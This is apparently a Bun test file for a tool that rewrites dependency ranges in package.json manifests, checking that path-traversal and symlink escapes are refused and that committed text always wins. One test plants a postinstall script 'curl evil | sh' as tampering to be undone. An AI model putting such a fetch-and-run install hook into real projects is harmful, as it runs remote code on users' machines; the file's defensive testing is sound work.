import { afterAll, beforeEach, describe, expect, test } from "bun:test";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { tempDir } from "../../test/helpers/temp.ts";
import { isPushpalsError, type ErrorCode } from "../core/errors.ts";
import type { PlannedUpdateRecord } from "../sources/dependency-updates/deps-scan-result.ts";
import { readManifests, writeRanges } from "./apply-ranges.ts";

/** Irregular on purpose: every byte but the edited values must survive. */
const ROOT = `{
  "name": "root",
  "private": true,
  "workspaces": ["packages/*"],
  "dependencies": {
    "zod": "^3.22.0",
    "sw": "npm:string-width@^4.2.3",
    "lodash": "4.17.21"
  },
  "devDependencies": { "typescript": "~5.4.0", "zod": "^3.0.0" },
  "optionalDependencies": {"fsevents":"^2.3.2"},
  "peerDependencies": {
\t"react": "^17.0.2"
  }
}`;

const APP = '{\r\n    "name": "app",\r\n    "dependencies": {\r\n        "zod": "^3.20.0",\r\n        "left-pad": "^1.0.0"\r\n    }\r\n}\r\n';

function update(over: Partial<PlannedUpdateRecord> & Pick<PlannedUpdateRecord, "name" | "from" | "to" | "fromRange" | "newRange">): PlannedUpdateRecord {
  return { alias: null, type: "prod", manifestPath: "package.json", kind: "minor", updateType: "minor", tier: "medium", ageDays: 30, ...over };
}

const UPDATES: PlannedUpdateRecord[] = [
  update({ name: "zod", from: "3.22.0", to: "3.23.8", fromRange: "^3.22.0", newRange: "^3.23.8" }),
  update({ name: "string-width", alias: "sw", kind: "major", updateType: "major", from: "4.2.3", to: "7.1.0", fromRange: "^4.2.3", newRange: "^7.1.0" }),
  update({ name: "typescript", type: "dev", kind: "in-range", updateType: "patch", from: "5.4.2", to: "5.4.5", fromRange: "~5.4.0", newRange: "~5.4.0" }),
  update({ name: "fsevents", type: "optional", from: "2.3.2", to: "2.3.3", fromRange: "^2.3.2", newRange: "^2.3.3", updateType: "patch" }),
  update({ name: "react", type: "peer", kind: "major", updateType: "major", from: "17.0.2", to: "18.3.1", fromRange: "^17.0.2", newRange: "^18.3.1" }),
  update({ name: "zod", manifestPath: "packages/app/package.json", from: "3.20.0", to: "3.23.8", fromRange: "^3.20.0", newRange: "^3.23.8" }),
];

/** `text` with exactly these `"key": "old"` values replaced (each must be there once). */
function replaced(text: string, pairs: [string, string][]): string {
  let out = text;
  for (const [from, to] of pairs) {
    expect(out.split(from)).toHaveLength(2);
    out = out.replace(from, to);
  }
  return out;
}

const PINNED_ROOT = () =>
  replaced(ROOT, [
    ['"zod": "^3.22.0"', '"zod": "3.23.8"'],
    ['"sw": "npm:string-width@^4.2.3"', '"sw": "npm:string-width@7.1.0"'],
    ['"typescript": "~5.4.0"', '"typescript": "5.4.5"'],
    ['"fsevents":"^2.3.2"', '"fsevents":"2.3.3"'],
    ['"react": "^17.0.2"', '"react": "18.3.1"'],
  ]);
const FINAL_ROOT = () =>
  replaced(ROOT, [
    ['"zod": "^3.22.0"', '"zod": "^3.23.8"'],
    ['"sw": "npm:string-width@^4.2.3"', '"sw": "npm:string-width@^7.1.0"'],
    ['"fsevents":"^2.3.2"', '"fsevents":"^2.3.3"'],
    ['"react": "^17.0.2"', '"react": "^18.3.1"'],
  ]);

const temp = tempDir("pushpals-apply-ranges-");
afterAll(() => temp.cleanup());
let n = 0;
let checkout: string;
let outside: string;

beforeEach(() => {
  const base = join(temp.path, String(n++));
  checkout = join(base, "checkout");
  outside = join(base, "outside");
  mkdirSync(join(checkout, "packages", "app"), { recursive: true });
  mkdirSync(outside);
  writeFileSync(join(checkout, "package.json"), ROOT);
  writeFileSync(join(checkout, "packages", "app", "package.json"), APP);
});

const read = (rel: string) => readFileSync(join(checkout, ...rel.split("/")), "utf8");

function refusal(code: ErrorCode, run: () => unknown): string {
  try {
    run();
  } catch (err) {
    if (isPushpalsError(err, code)) return err.message;
    throw err;
  }
  throw new Error("not refused");
}

describe("readManifests", () => {
  test("the text of each manifest the updates name, once each", () => {
    const committed = readManifests(checkout, UPDATES);
    expect([...committed.keys()]).toEqual(["package.json", "packages/app/package.json"]);
    expect(committed.get("package.json")).toBe(ROOT);
    expect(committed.get("packages/app/package.json")).toBe(APP);
  });

  test("a manifest the checkout does not have, or a path leading out of it, is refused", () => {
    expect(refusal("invalid_input", () => readManifests(checkout, [update({ ...UPDATES[0]!, manifestPath: "packages/gone/package.json" })]))).toContain("packages/gone/package.json: absent");
    expect(refusal("invalid_input", () => readManifests(checkout, [update({ ...UPDATES[0]!, manifestPath: "../outside/package.json" })]))).toContain("not a path inside the checkout");
  });

  test("a manifest that is a symbolic link leading out of the checkout is not read", () => {
    writeFileSync(join(outside, "package.json"), '{"dependencies":{"zod":"^1.0.0"}}');
    rmSync(join(checkout, "package.json"));
    symlinkSync(join(outside, "package.json"), join(checkout, "package.json"));
    expect(refusal("invalid_input", () => readManifests(checkout, UPDATES))).toContain("a symbolic link leading out of the checkout");
  });

  test("nor one in a workspace folder that is a link leading out", () => {
    rmSync(join(checkout, "packages", "app"), { recursive: true });
    writeFileSync(join(outside, "package.json"), APP);
    symlinkSync(outside, join(checkout, "packages", "app"));
    expect(refusal("invalid_input", () => readManifests(checkout, UPDATES))).toContain("packages/app/package.json: a symbolic link leading out of the checkout");
  });
});

describe("writeRanges", () => {
  test('"pinned": each range set to exactly its version, by section, an alias as npm:<name>@<version>; every other byte kept', () => {
    const committed = readManifests(checkout, UPDATES);
    expect(writeRanges(checkout, committed, UPDATES, "pinned")).toEqual(["package.json", "packages/app/package.json"]);
    expect(read("package.json")).toBe(PINNED_ROOT());
    // CRLF and 4-space indentation kept; only the workspace's own zod changes (not the root's devDependencies one).
    expect(read("packages/app/package.json")).toBe(replaced(APP, [['"zod": "^3.20.0"', '"zod": "3.23.8"']]));
    expect(JSON.parse(read("package.json")).devDependencies).toEqual({ typescript: "5.4.5", zod: "^3.0.0" });
  });

  test('"final": each range set to its new range; an in-range update leaves its range as it was', () => {
    const committed = readManifests(checkout, UPDATES);
    writeRanges(checkout, committed, UPDATES, "pinned");
    expect(writeRanges(checkout, committed, UPDATES, "final")).toEqual(["package.json", "packages/app/package.json"]);
    expect(read("package.json")).toBe(FINAL_ROOT());
    expect(read("packages/app/package.json")).toBe(replaced(APP, [['"zod": "^3.20.0"', '"zod": "^3.23.8"']]));
  });

  test("a manifest whose final text is the committed one is rewritten to it and not reported changed", () => {
    const inRange = [UPDATES[2]!];
    const committed = readManifests(checkout, inRange);
    expect(writeRanges(checkout, committed, inRange, "pinned")).toEqual(["package.json"]);
    expect(read("package.json")).toContain('"typescript": "5.4.5"');
    expect(writeRanges(checkout, committed, inRange, "final")).toEqual([]);
    expect(read("package.json")).toBe(ROOT);
  });

  test("always written from the committed text, whatever a command left in the file", () => {
    const committed = readManifests(checkout, UPDATES);
    writeRanges(checkout, committed, UPDATES, "pinned");
    // The package manager rewrites the manifests its own way (reformatted, a key added, a range changed).
    const rewritten = { ...JSON.parse(read("package.json")), scripts: { postinstall: "curl evil | sh" } };
    rewritten.dependencies.lodash = "^4.0.0";
    writeFileSync(join(checkout, "package.json"), `${JSON.stringify(rewritten, null, 2)}\n`);
    writeFileSync(join(checkout, "packages", "app", "package.json"), "{}");
    writeRanges(checkout, committed, UPDATES, "final");
    expect(read("package.json")).toBe(FINAL_ROOT());
    expect(read("packages/app/package.json")).toBe(replaced(APP, [['"zod": "^3.20.0"', '"zod": "^3.23.8"']]));
  });

  test("a manifest deleted by a command is written again", () => {
    const committed = readManifests(checkout, UPDATES);
    rmSync(join(checkout, "package.json"));
    writeRanges(checkout, committed, UPDATES, "final");
    expect(read("package.json")).toBe(FINAL_ROOT());
  });

  test("an update its manifest does not declare is refused", () => {
    const wrong = [update({ ...UPDATES[0]!, name: "not-there" })];
    const committed = readManifests(checkout, wrong);
    expect(refusal("invalid_input", () => writeRanges(checkout, committed, wrong, "pinned"))).toContain('cannot set "not-there" in "dependencies"');
    expect(read("package.json")).toBe(ROOT);
  });
});

describe("links a command left in the checkout", () => {
  test("package.json replaced by a link to a file outside: the outside file is untouched, the link replaced by a regular file", () => {
    const committed = readManifests(checkout, UPDATES);
    const target = join(outside, "victim.json");
    writeFileSync(target, ROOT);
    rmSync(join(checkout, "package.json"));
    symlinkSync(target, join(checkout, "package.json"));
    writeRanges(checkout, committed, UPDATES, "pinned");
    expect(readFileSync(target, "utf8")).toBe(ROOT);
    const stat = lstatSync(join(checkout, "package.json"));
    expect(stat.isSymbolicLink()).toBe(false);
    expect(stat.isFile()).toBe(true);
    expect(read("package.json")).toBe(PINNED_ROOT());
  });

  test("package.json replaced by a link to nothing outside: nothing is created there", () => {
    const committed = readManifests(checkout, UPDATES);
    const target = join(outside, "planted.json");
    rmSync(join(checkout, "package.json"));
    symlinkSync(target, join(checkout, "package.json"));
    writeRanges(checkout, committed, UPDATES, "final");
    expect(existsSync(target)).toBe(false);
    expect(lstatSync(join(checkout, "package.json")).isSymbolicLink()).toBe(false);
    expect(read("package.json")).toBe(FINAL_ROOT());
  });

  test("a workspace folder replaced by a link to a folder outside: refused, nothing written outside", () => {
    const committed = readManifests(checkout, UPDATES);
    renameSync(join(checkout, "packages", "app"), join(outside, "app"));
    symlinkSync(join(outside, "app"), join(checkout, "packages", "app"));
    expect(refusal("forbidden", () => writeRanges(checkout, committed, UPDATES, "pinned"))).toContain("packages/app/package.json: its folder leads out of the checkout");
    expect(readdirSync(join(outside, "app"))).toEqual(["package.json"]);
    expect(readFileSync(join(outside, "app", "package.json"), "utf8")).toBe(APP);
    expect(lstatSync(join(checkout, "packages", "app")).isSymbolicLink()).toBe(true);
  });

  test("a folder further up replaced by a link leading out: refused the same way", () => {
    const committed = readManifests(checkout, UPDATES);
    renameSync(join(checkout, "packages"), join(outside, "packages"));
    symlinkSync(join(outside, "packages"), join(checkout, "packages"));
    expect(refusal("forbidden", () => writeRanges(checkout, committed, UPDATES, "final"))).toContain("its folder leads out of the checkout");
    expect(readFileSync(join(outside, "packages", "app", "package.json"), "utf8")).toBe(APP);
  });

  test("a committed path that is not inside the checkout is never written", () => {
    const committed = new Map([["../outside/package.json", ROOT]]);
    const evil = [update({ ...UPDATES[0]!, manifestPath: "../outside/package.json" })];
    expect(refusal("invalid_input", () => writeRanges(checkout, committed, evil, "pinned"))).toContain("not a path inside the checkout");
    expect(existsSync(join(outside, "package.json"))).toBe(false);
  });
});
